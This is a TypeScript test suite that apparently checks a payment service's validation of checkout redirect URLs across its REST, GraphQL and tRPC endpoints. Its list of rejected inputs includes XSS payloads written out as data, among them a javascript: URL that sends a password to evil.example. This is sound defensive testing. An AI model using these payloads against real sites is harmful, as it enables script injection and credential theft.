import { checkoutSignature } from "@purse/engine";
import type { AppRouter } from "@purse/trpc";
import { createTRPCClient, httpLink, TRPCClientError } from "@trpc/client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, type TestServer } from "../support/test-server.ts";

/**
 * Contract, "Redirect and notification URLs": only absolute http(s) URLs without credentials, at
 * most 2048 characters, https only under NODE_ENV=production, on every door. A `javascript:`
 * success_url once ran script on Purse's own origin when the payer finished paying.
 */
type UrlField = "success_url" | "cancel_url" | "status_url";
interface Refusal {
  status: number;
  message: string;
  field: string | null;
}
type Outcome = "created" | Refusal;
type Door = (api: TestServer, field: UrlField, url: string) => Promise<Outcome>;

const refused = (field: UrlField): Refusal => ({
  status: 422,
  message: "This value is not a valid URL.",
  field,
});

let sequence = 0;
function signedCheckout(field: UrlField, url: string) {
  sequence += 1;
  const fields = {
    wallet_to: "U100000010",
    wallet_from: "U100000020",
    amount: "5.00",
    id: `url-${sequence}`,
  };
  return {
    fields,
    signature: checkoutSignature(fields, "acme-form-token"),
    userInfo: `url-payer-${sequence}`,
    urls: { success_url: "", cancel_url: "", status_url: "", [field]: url },
  };
}

const rest: Door = async (api, field, url) => {
  const c = signedCheckout(field, url);
  const response = await api.call("POST", "/api/processing/checkout", {
    body: { ...c.fields, signature: c.signature, user_info: c.userInfo, ...c.urls },
  });
  if (response.status === 200) return "created";
  const [fieldName] = Object.keys(response.body.errors ?? {});
  expect(response.body.errors?.[fieldName ?? ""]).toEqual([response.body.message]);
  return { status: response.status, message: response.body.message, field: fieldName ?? null };
};

const graphql: Door = async (api, field, url) => {
  const c = signedCheckout(field, url);
  const response = await api.call("POST", "/graphql", {
    body: {
      query: `mutation($input: CheckoutInput!) { createCheckout(input: $input) {
        __typename ... on PurseError { message field status } ... on MutationCreateCheckoutSuccess { data { url } } } }`,
      variables: {
        input: {
          walletTo: c.fields.wallet_to,
          walletFrom: c.fields.wallet_from,
          amount: c.fields.amount,
          id: c.fields.id,
          signature: c.signature,
          userInfo: c.userInfo,
          successUrl: c.urls.success_url,
          cancelUrl: c.urls.cancel_url,
          statusUrl: c.urls.status_url,
        },
      },
    },
  });
  const result = response.body.data?.createCheckout;
  if (!result) {
    // Refused before any resolver ran (the door's own input limits): no checkout either.
    const [error] = response.body.errors ?? [];
    if (!error) throw new Error(JSON.stringify(response.body));
    return { status: response.status, message: error.message, field: error.extensions?.field ?? null };
  }
  if (result.__typename !== "PurseError") return "created";
  return { status: result.status, message: result.message, field: result.field };
};

const trpc: Door = async (api, field, url) => {
  const c = signedCheckout(field, url);
  const client = createTRPCClient<AppRouter>({ links: [httpLink({ url: `${api.url}/trpc` })] });
  try {
    await client.checkout.mutate({
      walletTo: c.fields.wallet_to,
      walletFrom: c.fields.wallet_from,
      amount: c.fields.amount,
      id: c.fields.id,
      signature: c.signature,
      userInfo: c.userInfo,
      successUrl: c.urls.success_url,
      cancelUrl: c.urls.cancel_url,
      statusUrl: c.urls.status_url,
    });
    return "created";
  } catch (error) {
    if (!(error instanceof TRPCClientError)) throw error;
    const data = error.data as { httpStatus: number; field: string | null };
    return { status: data.httpStatus, message: error.message, field: data.field };
  }
};

const doors = { REST: rest, GraphQL: graphql, tRPC: trpc } as const;

const attacks: [string, string][] = [
  [
    "a javascript: URL in mixed case",
    "JavaScript:fetch('//evil.example/?'+document.forms[0].password.value)",
  ],
  ["a javascript: URL after leading spaces", "   javascript:alert(document.domain)"],
  ["a javascript: URL after a control character", "\u0008javascript:alert(1)"],
  ["a tab inside the scheme", "java\tscript:alert(1)"],
  ["a data: URL", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="],
  ["a vbscript: URL", "vbscript:msgbox(1)"],
  ["a scheme-relative URL", "//evil.example/phish"],
  ["a percent-encoded scheme", "%6A%61%76%61%73%63%72%69%70%74:alert(1)"],
  ["credentials in the URL", "http://user:pass@shop.example/thanks"],
];

const ofLength = (length: number) =>
  `https://shop.example/${"a".repeat(length - "https://shop.example/".length)}`;

describe("checkout URLs outside NODE_ENV=production", () => {
  let api: TestServer;
  beforeAll(async () => {
    api = await startTestServer();
  }, 60_000);
  afterAll(async () => {
    await api?.close();
  });

  describe.each(Object.entries(doors))("through %s", (_name, door) => {
    it.each(attacks)("refuses %s in every URL field", async (_attack, url) => {
      for (const field of ["success_url", "cancel_url", "status_url"] as const) {
        expect(await door(api, field, url)).toEqual(refused(field));
      }
    });

    it("accepts http and https URLs of 2048 characters at most", async () => {
      expect(await door(api, "success_url", "http://shop.example/thanks?order=1")).toBe("created");
      expect(await door(api, "cancel_url", "https://shop.example/cancel")).toBe("created");
      expect(await door(api, "status_url", ofLength(2048))).toBe("created");
    });
  });

  it.each(["REST", "tRPC"] as const)("%s refuses a URL of 2049 characters", async (name) => {
    for (const field of ["success_url", "cancel_url", "status_url"] as const) {
      expect(await doors[name](api, field, ofLength(2049))).toEqual(refused(field));
    }
  });

  it("GraphQL refuses a URL of 2049 characters (its door refuses any longer string variable first)", async () => {
    for (const field of ["success_url", "cancel_url", "status_url"] as const) {
      expect(await graphql(api, field, ofLength(2049))).toMatchObject({
        message: expect.stringMatching(/./),
      });
    }
  });
});

describe("checkout URLs under NODE_ENV=production", () => {
  let api: TestServer;
  beforeAll(async () => {
    api = await startTestServer({ env: { NODE_ENV: "production" } });
  }, 60_000);
  afterAll(async () => {
    await api?.close();
  });

  it.each(Object.entries(doors))("%s refuses plain http and accepts https", async (_name, door) => {
    for (const field of ["success_url", "cancel_url", "status_url"] as const) {
      expect(await door(api, field, "http://shop.example/back")).toEqual(refused(field));
      expect(await door(api, field, "https://shop.example/back")).toBe("created");
    }
  });
});
